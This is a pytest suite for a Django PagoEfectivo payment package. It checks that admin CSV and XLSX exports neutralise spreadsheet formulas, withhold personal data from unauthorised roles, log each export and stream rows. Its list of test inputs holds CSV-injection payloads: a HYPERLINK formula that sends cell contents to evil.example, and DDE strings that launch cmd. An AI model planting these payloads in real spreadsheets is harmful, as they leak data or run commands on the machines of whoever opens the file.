"""Exports: every cell as it should be, nothing that a spreadsheet runs, no more than may be."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import unicodedata
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission, User
from django.core.management import CommandError, call_command
from django.db import connection, connections
from django.test import AsyncClient
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell import Cell

from django_pagoefectivo.admin import exports as admin_exports
from django_pagoefectivo.models import Payment, Statement, StatementLine
from django_pagoefectivo.services import export_files
from django_pagoefectivo.services.cells import as_text, inert, inert_in_csv
from django_pagoefectivo.services.exports import EVENTS, LINES, PAYMENTS
from django_pagoefectivo.testing import make_payment

from .conftest import DOCUMENT, EMAIL, PHONE, make_event, person
from .test_payment_bulk import URL, said

pytestmark = pytest.mark.django_db
EVENT_URL = "/admin/pagoefectivo/webhookevent/"
#: What must not run: formulas, links, DDE, and ways around a plain look at the first letter.
EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1,"Pay")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\u00a0=1+1",
    "＝1+1",  # noqa: RUF001
)
TEXTS = (
    "order_reference",
    "description",
    "failure_code",
    "failure_message",
    "attention_note",
    "operation_number",
    "customer_first_name",
    "customer_last_name",
    "customer_document_type",
    "customer_document_number",
    "customer_phone",
    "customer_phone_country_code",
    "customer_country",
    "customer_ubigeo",
    "customer_id_in_shop",
)


def opened(content: bytes, delimiter: str = ",") -> list[list[str]]:
    """The file as a spreadsheet opens it: by its mark UTF-8, then cell by cell."""
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def content_of(answer: Any) -> bytes:
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def rows_of(answer: Any, **more: Any) -> list[dict[str, str]]:
    head, *rows = opened(content_of(answer), **more)
    assert all(len(row) == len(head) for row in rows)
    return [dict(zip(head, row, strict=True)) for row in rows]


def export(
    client: Any,
    *chosen: Any,
    kind: str = "csv",
    url: str = URL,
    headers: Any = None,
    **more: Any,
) -> Any:
    data = {"action": "export_rows", "_selected_action": [each.pk for each in chosen]}
    return client.post(url, data | {"confirmed": "yes", "kind": kind} | more, headers=headers)


@pytest.fixture
def exporter(as_role: Any) -> Any:
    """Somebody who may export personal data."""
    client = as_role("viewer")
    right = Permission.objects.get(codename="export_personal_data")
    person("viewer").user_permissions.add(right)
    return client


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell of a CSV file for a formula."""
    bare = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n\x00")
    return bare[:1] in ("=", "@") or (
        bare[:1] in ("+", "-") and not bare[1:].replace(" ", "").replace(".", "").isdigit()
    )


def test_it_asks_first_and_says_how_many_and_what(as_role: Any) -> None:
    payments = [make_payment() for _ in range(3)]
    client = as_role("viewer")
    chosen = {"_selected_action": [payment.pk for payment in payments[:2]]}
    asked = client.post(URL, {"action": "export_rows", "index": "0"} | chosen)
    page = asked.content.decode()
    assert "Export 2 rows?" in page
    assert "no personal data" in page
    assert "E-mail" not in page
    assert not LogEntry.objects.exists()
    wrong = export(client, *payments[:2], kind="exe")
    assert wrong.context["form"].errors
    assert not LogEntry.objects.exists()


def test_every_cell_of_a_payment(exporter: Any) -> None:
    at = datetime(2026, 1, 31, 4, 59, 59, tzinfo=UTC)
    payment = make_payment(
        "paid",
        order_reference="Pedido Nº 7",
        customer_first_name="José Ñandú",
        customer_last_name='O\'Brian, "el güero"\nQuispe',
        customer_phone="+51987654321",
        description="Café; niñez, 1 de S/ 22,05 ☕",
        amount=Decimal("1234.50"),
        paid_amount=Decimal("1234.50"),
        created_at=at,
        paid_at=at,
        metadata={"tienda": "Ñaña"},
    )
    [row] = rows_of(export(exporter, payment))
    assert row == {
        "Order": "Pedido Nº 7",
        "Transaction code": payment.transaction_code,
        "CIP": payment.cip,
        "Merchant": "default",
        "Status": "paid",
        "Amount": "1234.50",
        "Currency": "PEN",
        "Paid amount": "1234.50",
        "Operation number": payment.operation_number,
        "Created (Lima)": "2026-01-30 23:59:59",
        "Deadline (Lima)": as_text(payment.expires_at),
        "Paid (Lima)": "2026-01-30 23:59:59",
        "Cancelled (Lima)": "",
        "Refunded (Lima)": "",
        "Description": "Café; niñez, 1 de S/ 22,05 ☕",
        "Failure code": "",
        "Failure": "",
        "Needs attention": "",
        "Why": "",
        "Reconciled (Lima)": "",
        "Reconciled by": "",
        "E-mail": EMAIL,
        "First name": "José Ñandú",
        "Last name": 'O\'Brian, "el güero"\nQuispe',
        "Document type": "DNI",
        "Document number": DOCUMENT,
        "Country code of the phone": payment.customer_phone_country_code,
        "Phone": "+51987654321",
        "Country": payment.customer_country,
        "Ubigeo": payment.customer_ubigeo,
        "Customer id": payment.customer_id_in_shop,
        "Metadata": '{"tienda": "Ñaña"}',
    }


@pytest.mark.parametrize("evil", EVIL)
def test_no_cell_is_a_formula_in_any_column(exporter: Any, evil: str) -> None:
    payment = make_payment()
    longest = {field.name: field.max_length for field in Payment._meta.fields}
    values = {
        name: evil[: longest[name]].replace(
            "\x00", "" if connection.vendor == "postgresql" else "\x00"
        )
        for name in TEXTS
    }
    Payment.objects.filter(pk=payment.pk).update(**values)
    [row] = rows_of(export(exporter, payment))
    assert not [cell for cell in row.values() if runs(cell)]
    # And nothing is lost by it.
    without_marks = values["description"].replace("\x00", "").replace("'", "")
    assert row["Description"].replace("'", "") == without_marks
    assert row["Description"].startswith("'")


@pytest.mark.parametrize(
    "harmless",
    ["-12", "-12.50", "+51 987 654 321", "+51987654321", "00123", "12-34", "a=b", "'quoted'", ""],
)
def test_numbers_and_phone_numbers_stay_as_they_are(harmless: str) -> None:
    assert inert(harmless) == harmless


def test_cells_of_other_kinds() -> None:
    assert as_text(Decimal("-0.50")) == "-0.50"
    assert as_text(Decimal("1E+3"), ",") == "1000"
    assert as_text(Decimal("1234.50"), ",") == "1234,50"
    assert (as_text(True), as_text(False), as_text(None), as_text(7)) == ("1", "0", "", "7")
    assert as_text(datetime(2026, 1, 1, 3, tzinfo=UTC).date()) == "2026-01-01"


#: Texts that are cut up by one reader or another.
_CUT = st.lists(
    st.sampled_from([*"=+-@,;\t\r\n\"' 0159aÑ", "＝", "\u2028", "\x85", "\u00a0", "cmd|", "-5"]),  # noqa: RUF001
    max_size=8,
).map("".join)


@given(
    rows=st.lists(
        st.lists(
            _CUT | st.text(st.characters(max_codepoint=0x3FF), max_size=8), min_size=3, max_size=3
        ),
        max_size=3,
    ),
    decimal_comma=st.booleans(),
    delimiter=st.sampled_from(",;\t"),
    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_NONE]),
    trimmed=st.booleans(),
)
@example([["O-1", "Rosa;=HYPERLINK(A1);x", "987"]], False, ";", csv.QUOTE_MINIMAL, False)
@example([["O-1", "Rosa,=HYPERLINK(A1),x", "987"]], True, ",", csv.QUOTE_MINIMAL, False)
@example([["O-1", "Rosa\t=HYPERLINK(A1)\tx", "987"]], False, "\t", csv.QUOTE_MINIMAL, False)
@example([["O-1", 'Rosa;" =HYPERLINK(A1)";x', "987"]], False, ";", csv.QUOTE_MINIMAL, False)
@example([["O-1", "Rosa\n=HYPERLINK(A1)", "987"]], False, ";", csv.QUOTE_MINIMAL, False)
@example([["O-1", "Rosa,=HYPERLINK(A1)", "987"]], False, ",", csv.QUOTE_NONE, False)
@example([["-5", "2+cmd|' /C calc'!A0", "987"]], False, ";", csv.QUOTE_MINIMAL, False)
@settings(max_examples=500, deadline=None)
@pytest.mark.once
def test_no_other_separator_makes_a_formula(
    rows: list[list[str]], decimal_comma: bool, delimiter: str, quoting: Any, trimmed: bool
) -> None:
    """As one opens it, whose spreadsheet expects another separator, or no quotes."""
    cells: list[list[Any]] = [list(row) for row in rows]
    parts = export_files.csv_parts(["a", "b", "c"], cells, decimal_comma=decimal_comma)
    text = b"".join(parts).decode("utf-8-sig")
    read = csv.reader(
        io.StringIO(text, newline=""),
        delimiter=delimiter,
        quoting=quoting,
        skipinitialspace=trimmed,
    )
    for row in read:
        for cell in row:
            assert not runs(cell) or re.fullmatch(r"[+-]\d[\d ]*([.,]\d+)?", cell), (cell, text)
            # A line is as good as a row to some.
            assert not any(map(runs, cell.splitlines()[1:])), (cell, text)


@pytest.mark.parametrize(
    "text",
    [
        "Café; niñez, 1 de S/ 22,05",
        "12-34",
        "a, b - c",
        "rosa@correo.example, ana@correo.example",
        '{"a": -5, "b": "x=1"}',
        "  a   -b",
    ],
)
def test_what_no_reader_runs_stays_as_it_is(text: str) -> None:
    assert inert_in_csv(text, first=True) == text


def test_numbers_and_dates_of_a_csv_file_stay_as_they_are() -> None:
    at = datetime(2026, 1, 1, 3, tzinfo=UTC)
    row: list[Any] = ["O-1", Decimal("-0.50"), -7, at, at.date(), "-12.50", "+51 987654321"]
    parts = export_files.csv_parts(["x"] * 7, [row])
    [_, read] = opened(b"".join(parts))
    assert read == [
        "O-1",
        "-0.50",
        "-7",
        "2025-12-31 22:00:00",
        "2026-01-01",
        "-12.50",
        "+51 987654321",
    ]


def test_with_a_decimal_comma_and_semicolons(exporter: Any) -> None:
    payment = make_payment(description="uno;dos")
    [row] = rows_of(export(exporter, payment, kind="csv-comma"), delimiter=";")
    assert row["Amount"] == "22,05"
    assert row["Description"] == "uno;dos"


def test_xlsx_has_numbers_dates_and_no_formula(exporter: Any) -> None:
    payment = make_payment("paid", description="=1+1", cip="00123456")
    bell = make_payment(customer_first_name="Ñusta \x07" if not _no_control() else "Ñusta ")
    answer = export(exporter, payment, bell, kind="xlsx")
    sheet = load_workbook(io.BytesIO(content_of(answer))).worksheets[0]
    head, *rows = sheet.iter_rows()
    names = [cell.value for cell in head]
    row = dict(zip(names, rows[0], strict=True))
    assert (row["Description"].value, row["Description"].data_type) == ("=1+1", "s")
    assert (row["CIP"].value, row["CIP"].data_type) == ("00123456", "s")
    assert (row["Amount"].value, row["Amount"].data_type) == (22.05, "n")
    created = row["Created (Lima)"]
    assert isinstance(created, Cell)
    assert created.is_date
    assert row["E-mail"].value == EMAIL
    assert dict(zip(names, rows[1], strict=True))["First name"].value == "Ñusta "
    assert not [cell for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


def _no_control() -> bool:
    return connection.vendor == "mysql"


def test_more_rows_than_a_sheet_holds_go_on_the_next(monkeypatch: Any) -> None:
    monkeypatch.setattr(export_files, "SHEET_ROWS", 3)
    with export_files.xlsx_file("t", ["n"], ([n] for n in range(5))) as file:
        book = load_workbook(file)
    found = [[cell.value for (cell,) in sheet.iter_rows()] for sheet in book.worksheets]
    assert found == [["n", 0, 1], ["n", 2, 3], ["n", 4]]
    with export_files.xlsx_file("t", ["n"], []) as file:
        assert [cell.value for cell in load_workbook(file).worksheets[0][1]] == ["n"]


def test_without_the_extra_there_is_no_xlsx(exporter: Any, monkeypatch: Any) -> None:
    monkeypatch.setattr(admin_exports, "HAS_XLSX", False)
    assert export(exporter, make_payment(), kind="xlsx").context["form"].errors


# -- who gets what ---------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("role", ["viewer", "clerk", "boss", "privy"])
def test_without_the_right_no_personal_data_leaves(as_role: Any, role: str, kind: str) -> None:
    payment = make_payment(
        description=f"For Rosa, {EMAIL}",
        attention_note=f"Call {PHONE} or {DOCUMENT}",
        metadata={"who": "Rosa"},
    )
    content = content_of(export(as_role(role), payment, kind=kind))
    if kind == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        content = repr(list(sheet.iter_rows(values_only=True))).encode()
    assert payment.order_reference.encode() in content
    for secret in (EMAIL, PHONE, DOCUMENT, "Rosa", "Quispe"):
        assert secret.encode() not in content
    entry = LogEntry.objects.get()
    assert entry.user.get_username() == role
    assert entry.change_message == "Exported 1 rows without personal data."


def test_an_export_of_personal_data_is_logged_as_one(exporter: Any) -> None:
    export(exporter, make_payment(), make_payment())
    assert LogEntry.objects.get().change_message == "Exported 2 rows with personal data."


@pytest.mark.parametrize("role", ["outsider", "blind"])
def test_who_may_not_look_may_not_export(as_role: Any, role: str) -> None:
    client, payment = as_role(role), make_payment()
    assert export(client, payment).status_code in (302, 403)
    assert client.post("/admin/pagoefectivo/statement/1/export/").status_code == 403
    assert not LogEntry.objects.exists()


def test_it_is_in_the_language_of_whoever_asked(exporter: Any) -> None:
    answer = export(exporter, make_payment("paid"), headers={"Accept-Language": "es"})
    with translation.override("en"):
        [row] = rows_of(answer)
    assert row["Estado"] == "pagado"


# -- which rows, and how ---------------------------------------------------------------------


def test_all_that_the_filter_gives(as_role: Any) -> None:
    paid = [make_payment("paid") for _ in range(3)]
    make_payment()
    answer = export(as_role("viewer"), paid[0], url=f"{URL}?status__exact=paid", select_across="1")
    assert [row["Order"] for row in rows_of(answer)] == [p.order_reference for p in paid]


def test_the_rows_are_read_a_few_hundred_at_a_time(django_assert_num_queries: Any) -> None:
    for _ in range(7):
        make_payment()
    with django_assert_num_queries(1):
        parts = list(
            export_files.csv_parts(["x"], PAYMENTS.rows(Payment.objects.all(), personal=True))
        )
    assert b"".join(parts).count(b"\r\n") == 8


def test_statements_grow_with_the_batches_only(monkeypatch: Any) -> None:
    monkeypatch.setattr("django_pagoefectivo.services.exports._BATCH", 2)
    for _ in range(5):
        make_payment()
    with CaptureQueriesContext(
        connection,
    ) as seen:
        rows = list(PAYMENTS.rows(Payment.objects.all(), personal=True))
    assert (len(rows), len(seen)) == (5, 3)
    assert len({row[1] for row in rows}) == 5


def test_csv_is_handed_out_while_it_is_made() -> None:
    """So that memory does not grow with the rows."""
    taken: list[int] = []

    def rows() -> Any:
        for number in range(1000):
            taken.append(number)
            yield [number]

    parts = export_files.csv_parts(["n"], rows())
    next(parts)
    assert len(taken) < 500
    assert len(list(parts)) > 2


def test_too_many_are_refused_with_the_command(as_role: Any, monkeypatch: Any) -> None:
    monkeypatch.setattr(admin_exports, "MOST", 1)
    payments = [make_payment("paid") for _ in range(2)]
    client = as_role("viewer")
    [message] = said(export(client, *payments, url=f"{URL}?status__exact=paid"))
    assert message.endswith("manage.py pagoefectivo_export payments.csv --status paid")
    make_event(), make_event()
    message = said(export(client, *payments, url=EVENT_URL, select_across="1"))[-1]
    assert message == "More than 1 rows are chosen. Choose fewer."


def test_notifications_and_their_bodies(exporter: Any, as_role: Any) -> None:
    event = make_event(error="=1+1")
    [row] = rows_of(export(exporter, event, url=EVENT_URL))
    assert row["Explanation"] == "'=1+1"
    assert row["Body"] == event.body_text
    assert row["Amount"] == "22.05"
    assert "Body" not in rows_of(export(as_role("boss"), event, url=EVENT_URL))[0]
    assert EVENTS.headings(personal=False)[0] == "Received (Lima)"


def test_the_lines_of_a_statement(as_role: Any) -> None:
    person("viewer").user_permissions.add(Permission.objects.get(codename="view_statement"))
    payment = make_payment("paid")
    statement = Statement.objects.create(merchant="default", file_name="r.csv", file_digest="x")
    StatementLine.objects.create(
        statement=statement,
        number=2,
        digest="d",
        cip=str(payment.cip),
        operation_number="=7",
        amount=Decimal("22.05"),
        currency="PEN",
        state="amount_differs",
        problem="-22.05 PEN there",
        comment=f"Rosa called, {EMAIL}",
        payment=payment,
    )
    client = as_role("viewer")
    url = f"/admin/pagoefectivo/statement/{statement.pk}/"
    assert f"{url}export/" in client.get(f"{url}change/").content.decode()
    assert b"Export 1 row?" in client.get(f"{url}export/").content
    [row] = rows_of(client.post(f"{url}export/", {"confirmed": "yes", "kind": "csv"}))
    assert row["Operation number"] == "'=7"
    assert row["Problem"] == "'-22.05 PEN there"
    assert row["Order"] == payment.order_reference
    assert row["Paid amount here"] == "22.05"
    assert row["Refund"] == "0"
    assert EMAIL not in row["Comment"]
    assert "Rosa" not in row["Comment"]
    assert LogEntry.objects.get().change_message == "Exported 1 rows without personal data."
    assert len(LINES.headings(personal=True)) == len(row)


@pytest.mark.django_db(transaction=True)
def test_under_asgi_it_is_handed_out_as_it_is_made() -> None:
    payment = make_payment()
    user = User.objects.create_superuser("root")
    data = {
        "action": "export_rows",
        "_selected_action": [payment.pk],
        "confirmed": "yes",
        "kind": "csv",
    }

    async def fetch() -> bytes:
        client = AsyncClient()
        await client.aforce_login(user)
        answer: Any = await client.post(URL, data)
        assert answer.is_async
        content = b"".join([part async for part in answer])
        # Django's own are closed with the request, in the thread that it worked in.
        await sync_to_async(connections.close_all)()
        return content

    [_, row] = opened(asyncio.run(fetch()))
    assert row[0] == payment.order_reference


# -- the command -----------------------------------------------------------------------------


def exported(*options: str) -> str:
    out = io.StringIO()
    call_command("pagoefectivo_export", *options, stdout=out)
    return out.getvalue()


def test_the_command_writes_the_same(tmp_path: Path) -> None:
    paid = make_payment("paid")
    make_payment()
    file = tmp_path / "payments.csv"
    assert exported(str(file), "--status", "paid") == f"1 payments in {file}.\n"
    head, row = opened(file.read_bytes())
    assert (row[0], "E-mail" in head) == (paid.order_reference, False)
    with pytest.raises(CommandError, match="there already"):
        exported(str(file))
    exported(str(file), "--force", "--personal-data", "--decimal-comma")
    head, *rows = opened(file.read_bytes(), ";")
    assert (len(rows), "E-mail" in head) == (2, True)
    book = tmp_path / "payments.xlsx"
    exported(str(book))
    assert load_workbook(book).worksheets[0].max_row == 3


@pytest.mark.parametrize(
    ("options", "told"),
    [
        (["/nowhere/at/all.csv"], "cannot be written"),
        (["x.csv", "--from-day", "soon"], "as in 2026-01-31"),
    ],
)
def test_what_the_command_cannot_do_is_a_sentence(options: list[str], told: str) -> None:
    with pytest.raises(CommandError, match=told):
        exported(*options)
    assert not Path("x.csv").exists()
